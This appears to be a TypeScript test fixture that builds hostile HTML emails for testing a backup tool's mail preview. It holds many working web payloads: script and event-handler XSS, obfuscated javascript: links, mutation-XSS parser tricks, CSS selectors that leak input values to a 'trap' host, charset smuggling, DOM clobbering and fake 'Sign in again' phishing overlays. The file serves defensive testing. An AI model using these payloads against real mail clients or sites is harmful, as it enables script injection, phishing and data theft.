/** Mails that strangers might send to whoever looks at backups: the preview cases of the security catalogue (CON). */
import type { MailFile } from './mail-files.ts'

interface HostileMail {
  readonly id: string
  /** Which of several of the id; `case` unless told. */
  readonly what?: string
  /** HTML after the mark by which the mail is known. */
  readonly html: string
}

/** Says that a script ran, by every way that one could have. */
const strike = (id: string, trap: string): string =>
  `try{top.struck='${id}'}catch{};try{parent.struck='${id}'}catch{};new Image().src='${trap}/${id}'`

/** @param trap where everything that these mails load would come from. */
export function hostileMails(trap: string): readonly HostileMail[] {
  const at = (id: string): string => strike(id, trap).replaceAll('"', '&quot;')
  return [
    {
      id: 'CON-01',
      html: `<script>${strike('CON-01', trap)}</script><script src="${trap}/CON-01.js"></script>`,
    },
    {
      id: 'CON-02',
      html: `<img src="x:" onerror="${at('CON-02')}"><body onload="${at('CON-02')}"><svg><animate onbegin="${at('CON-02')}" attributeName="x" dur="1s"></svg><details open ontoggle="${at('CON-02')}"></details>`,
    },
    {
      id: 'CON-03',
      html: `<svg><filter id="f"><feImage href="${trap}/CON-03-fe"/></filter><rect width="9" height="9" filter="url(#f)"/><use href="${trap}/CON-03-use.svg#a"/><image href="${trap}/CON-03-image"/><a><animate attributeName="href" values="javascript:1"/></a></svg>`,
    },
    {
      id: 'CON-04',
      html: `<style>@import "${trap}/CON-04.css"; p{background:url(${trap}/CON-04-url)} @font-face{font-family:f;src:url(${trap}/CON-04-font)} *{font-family:f}</style><p style="background-image:url('${trap}/CON-04-inline')">text</p><link rel="stylesheet" href="${trap}/CON-04-link.css">`,
    },
    {
      id: 'CON-05',
      html: `<meta http-equiv="refresh" content="0;url=${trap}/CON-05"><base href="${trap}/CON-05/"><img src="relative.png">`,
    },
    {
      id: 'CON-06',
      html: `<form action="${trap}/CON-06" method="post"><input name="a" value="b"><button>Sign in again</button></form><input type="image" formaction="${trap}/CON-06-image" src="${trap}/CON-06-src">`,
    },
    {
      id: 'CON-07',
      html: `<iframe srcdoc="<script>${at('CON-07')}</script>"></iframe><iframe src="${trap}/CON-07-frame"></iframe><object data="${trap}/CON-07-object"></object><embed src="${trap}/CON-07-embed">`,
    },
    {
      id: 'CON-08',
      html: `<a href="javascript:${at('CON-08')}">one</a> <a href="data:text/html,<script>${at('CON-08')}</script>">two</a> <a href="vbscript:msgbox">three</a> <a href="&#1;java&#10;script:${at('CON-08')}">four</a>`,
    },
    {
      id: 'CON-09',
      html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${at('CON-09')}&gt;"></table></mtext></math><noscript><p title="</noscript><img src=x: onerror=${at('CON-09')}>"></noscript><svg></p><style><a id="</style><img src=x: onerror=${at('CON-09')}>">`,
    },
    {
      id: 'CON-10',
      html: `<form id="root"><input name="attributes"><input name="children"></form><a id="location" href="${trap}/CON-10"></a><img name="currentScript" src="x:">`,
    },
    {
      id: 'CON-11',
      html: `<style>input[value^="s"]{background:url(${trap}/CON-11-s)}</style><input value="secret"><style>:root{--a:url(${trap}/CON-11-var)} p{background:var(--a)}</style><p>p</p><style>a[href*="leaving"]{background:url(${trap}/CON-11-href)} a:visited{background-image:url(${trap}/CON-11-seen)} html:has(p){background:u\\72l(${trap}/CON-11-has)} p::after{content:url(${trap}/CON-11-content)} p{cursor:url(${trap}/CON-11-cursor),auto;list-style-image:url(${trap}/CON-11-list);border-image:image-set("${trap}/CON-11-set" 1x)}</style><a href="${trap}/CON-11-link">link</a>`,
    },
    {
      id: 'CON-10',
      what: 'overlay',
      html: `<style>.cover{position:fixed!important;inset:0;z-index:99999;background:#fff} body{position:absolute;top:-100px;transform:scale(3)} p{margin-top:-9999px} :root{--x:1}</style><div class="cover">Sign in again</div><div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9">Sign in again</div><div style="POSITION : \\66ixed; top:0">Sign in again</div><dialog open>Sign in again</dialog><div popover>x</div>`,
    },
    {
      id: 'CON-12',
      html: `<img src="${trap}/CON-12.gif" width="1" height="1"><img srcset="${trap}/CON-12-set.gif 1x"><video poster="${trap}/CON-12-poster" src="${trap}/CON-12-video"></video><table background="${trap}/CON-12-table"><tr><td>t</td></tr></table>`,
    },
    {
      id: 'CON-17',
      html: `<script>parent.postMessage({type:'strike'},'*');top.postMessage('strike','*')</script>`,
    },
    { id: 'CON-18', html: `<a href="${trap}/CON-18" id="link">An offer</a>` },
    { id: 'CON-22', html: `<!-- never closed <img src="x:" onerror="${at('CON-22')}">` },
  ]
}

const twoEncodings = (trap: string): readonly MailFile[] => {
  const script = `<p>Mark CON-22 </p><script>${strike('CON-22', trap)}</script>`
  const utf7 = `+ADw-script+AD4-${strike('CON-22', trap)}+ADw-/script+AD4-`
  return [
    {
      subject: 'CON-22 UTF-16',
      contentType: 'text/html; charset=utf-16le',
      body: Buffer.from(script, 'utf16le').toString('base64'),
      encoding: 'base64',
    },
    {
      subject: 'CON-22 UTF-7',
      contentType: 'text/html; charset=utf-7',
      body: `<p>Mark CON-22 </p>${utf7}`,
    },
    {
      subject: 'CON-22 plaintext',
      contentType: 'text/html; charset=utf-8',
      body: `<p>Mark CON-22 </p><plaintext><script>${strike('CON-22', trap)}</script>`,
    },
  ]
}

export const markup = '<img src=x: onerror=top.struck=1>'
const picture =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

function related(subject: string, parts: readonly string[]): MailFile {
  const body = [...parts.map((part) => `--b\n${part}`), '--b--', ''].join('\n')
  return { subject, contentType: 'multipart/related; boundary=b', body }
}

const file = (name: string, type: string, content: string): string =>
  `Content-Type: ${type}; name="${name}"\nContent-Disposition: attachment; filename="${name}"\n\n${content}`

/** Everything for one mailbox. The subject says which case it is. */
export function hostileMailbox(trap: string): readonly MailFile[] {
  const html = 'Content-Type: text/html; charset=utf-8\n\n'
  return [
    ...hostileMails(trap).map(({ id, what = 'case', html: body }) => ({
      subject: `${id} ${what}`,
      contentType: 'text/html; charset=utf-8',
      body: `<p>Mark ${id} </p>${body}`,
    })),
    ...twoEncodings(trap),
    related('CON-13 own picture', [
      `${html}<p>Mark CON-13 </p><img src="cid:logo@b">`,
      `Content-Type: image/png\nContent-ID: <logo@b>\nContent-Disposition: inline\nContent-Transfer-Encoding: base64\n\n${picture}`,
    ]),
    related('CON-13 picture of another', [`${html}<p>Mark CON-13 </p><img src="cid:logo@b">`]),
    {
      subject: `CON-14 ${markup}`,
      from: `"${markup}" <stranger@fabrikam.com>`,
      contentType: 'text/html; charset=utf-8',
      body: '<p>Mark CON-14 </p>',
    },
    {
      subject: 'CON-04 newsletter',
      contentType: 'text/html; charset=utf-8',
      body: `<html><head><style>.Card td{background:#0b57d0 url(${trap}/CON-04-card);color:#fff;padding:20px}</style></head><body bgcolor="eef2f7"><table class="Card"><tr><td>Mark CON-04 </td></tr></table></body></html>`,
    },
    {
      ...related('CON-15 files', [
        `${html}<p>Mark CON-15 </p>`,
        file('page.html', 'text/html', `<script>${strike('CON-15', trap)}</script>`),
        file('drawing.svg', 'image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" onload="1"/>`),
        file('data.xml', 'application/xml', '<a/>'),
        file('saved.mht', 'multipart/related', 'x'),
        file('paper.pdf', 'application/pdf', '%PDF-1.4'),
        file('<img src=x: onerror=top.struck=1>.txt', 'text/plain', 'x'),
      ]),
      contentType: 'multipart/mixed; boundary=b',
    },
  ]
}
